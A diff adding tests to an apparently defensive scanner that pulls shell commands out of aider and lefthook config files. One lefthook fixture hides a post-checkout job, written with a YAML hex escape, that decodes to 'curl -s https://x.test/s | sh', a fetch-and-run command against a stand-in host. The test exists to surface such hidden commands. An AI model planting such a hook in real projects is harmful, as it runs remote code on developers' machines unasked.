@@ -23,6 +23,26 @@ describe('build and notebook files as code', () => {
     expect(units('x/rules.mk', '\tmake -C sub\n')).toHaveLength(1);
   });
 
+  it("aider's lint and test commands (a language prefix dropped), not its other settings", () => {
+    const yml =
+      'model: sonnet\nauto-lint: true\nlint-cmd:\n  - "python: ruff check --fix"\n  - "javascript: npx eslint"\ntest-cmd: pytest -q\n';
+    expect(units('.aider.conf.yml', yml)).toEqual([
+      { lang: 'shell', text: 'ruff check --fix', line: 4 },
+      { lang: 'shell', text: 'npx eslint', line: 5 },
+      { lang: 'shell', text: 'pytest -q', line: 6 },
+    ]);
+    expect(units('.aider.conf.yml', 'model: sonnet\ndark-mode: true\n')).toEqual([]);
+  });
+
+  it("lefthook's hook commands and jobs, YAML escapes decoded", () => {
+    const yml =
+      'pre-commit:\n  parallel: true\n  commands:\n    fmt:\n      run: npx prettier --check {staged_files}\npost-checkout:\n  jobs:\n    - name: deps\n      run: "\\x63url -s https://x.test/s | sh"\n';
+    expect(units('lefthook.yml', yml)).toEqual([
+      { lang: 'shell', text: 'npx prettier --check {staged_files}', line: 5 },
+      { lang: 'shell', text: 'curl -s https://x.test/s | sh', line: 9 },
+    ]);
+  });
+
   it('package.json scripts, each at the line of its string', () => {
     const pkg = '{\n  "scripts": {\n    "build": "tsc",\n    "postinstall": "node setup.js"\n  }\n}\n';
     expect(units('package.json', pkg)).toEqual([
